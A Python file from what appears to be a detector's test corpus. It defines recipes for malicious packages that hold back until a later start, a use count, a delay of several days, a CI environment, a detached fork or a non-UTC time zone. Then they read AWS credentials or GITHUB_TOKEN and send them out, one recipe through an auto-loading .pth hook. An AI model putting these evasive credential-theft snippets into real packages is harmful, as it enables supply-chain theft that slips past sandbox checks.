"""T25: waits: for a later start, a date, a build server, a number of uses (MITRE ATT&CK T1497.003).

Nothing happens on the first start. The twins keep the same count and ask the same clock, as update
checkers do, and then only write down when they last looked.
"""

from __future__ import annotations

from models.phase import Phase
from tests.corpus.guard import IF_ACT, acting
from tests.corpus.recipe import Channel, Encoding, Recipe
from tests.corpus.recipes import senders
from tests.corpus.recipes.senders import sending

READS = '_send(_wrap((HOME / ".aws/credentials").read_bytes()))'
ENVIRONMENT = '_send(_wrap(os.environ.get("GITHUB_TOKEN", "").encode()))'
NOTES = """
import time
folder = HOME / ".cache/THE_MODULE"
folder.mkdir(parents=True, exist_ok=True)
(folder / "looked").write_text(str(time.time()))
"""
SECOND_START = """
mark = HOME / ".cache/THE_MODULE.seen"
if mark.exists():
    if ACT:
        THE_ACT()
else:
    mark.parent.mkdir(parents=True, exist_ok=True)
    mark.write_text("1")
"""
COUNTER = """
count = pathlib.Path("/tmp/THE_MODULE.count")
number = int(count.read_text()) + 1 if count.exists() else 1
count.write_text(str(number))
if ACT and number >= 2:
    THE_ACT()
"""
DAYS_LATER = """
import time
stamp = HOME / ".config/THE_MODULE.stamp"
if not stamp.exists():
    stamp.parent.mkdir(parents=True, exist_ok=True)
    stamp.write_text(str(time.time()))
elif ACT and time.time() - float(stamp.read_text()) > 3 * 86400:
    THE_ACT()
"""
SINCE_INSTALL = """
import time
if ACT and time.time() - os.stat(__file__).st_ctime > 7 * 86400:
    THE_ACT()
"""
ON_BUILD_SERVER = """
if ACT and (os.environ.get("CI") or os.environ.get("GITHUB_ACTIONS")):
    THE_ACT()
"""
IN_A_THREAD = """
import threading
if ACT:
    threading.Thread(target=THE_ACT).start()
"""
SLEEPS = "import time\ntime.sleep(900)\n" + READS
LEFT_BEHIND = f"""
import time
if os.fork() == 0:
    os.setsid()
    time.sleep(120)
    {READS}
    os._exit(0)
"""
OTHER_ZONE = """
import time
if ACT and time.strftime("%z") not in ("+0000", ""):
    THE_ACT()
"""

WAYS = (
    ("second-start", Channel.HTTP, Encoding.PLAIN, senders.HTTP, READS, SECOND_START),
    ("second-count", Channel.TCP, Encoding.BASE64, senders.TCP, READS, COUNTER),
    ("days-after-first", Channel.HTTPS, Encoding.JSON, senders.HTTPS, READS, DAYS_LATER),
    ("week-after-install", Channel.UDP, Encoding.HEX, senders.UDP, READS, SINCE_INSTALL),
    ("build-server", Channel.DNS, Encoding.LABELS, senders.DNS, ENVIRONMENT, ON_BUILD_SERVER),
    ("quarter-of-an-hour", Channel.HTTP, Encoding.GZIP, senders.HTTP, SLEEPS, IN_A_THREAD),
    ("two-minutes-detached", Channel.PROCESS, Encoding.PLAIN, senders.CURL, LEFT_BEHIND, IF_ACT),
    ("other-time-zone", Channel.TCP, Encoding.XOR, senders.TCP, READS, OTHER_ZONE),
)

WAITING = tuple(
    Recipe(
        technique="T25",
        name=name,
        phase=Phase.WAIT,
        channel=channel,
        encoding=encoding,
        files={"THE_MODULE/__init__.py": acting(reenact, NOTES, tail, sending(sender, encoding))},
        twin_does="notes when it last looked, at the same time",
    )
    for name, channel, encoding, sender, reenact, tail in WAYS
)
RECIPES = (
    *WAITING,
    Recipe(
        technique="T25",
        name="hook-second-start",
        phase=Phase.WAIT,
        channel=Channel.HTTP,
        encoding=Encoding.BASE64,
        files={
            "THE_MODULE.pth": "import THE_MODULE_hook\n",
            "THE_MODULE_hook.py": acting(
                READS, NOTES, SECOND_START, sending(senders.HTTP, Encoding.BASE64)
            ),
            "THE_MODULE/__init__.py": '"""Nothing."""\n',
        },
        twin_does="notes when it last looked, on the second start",
    ),
)
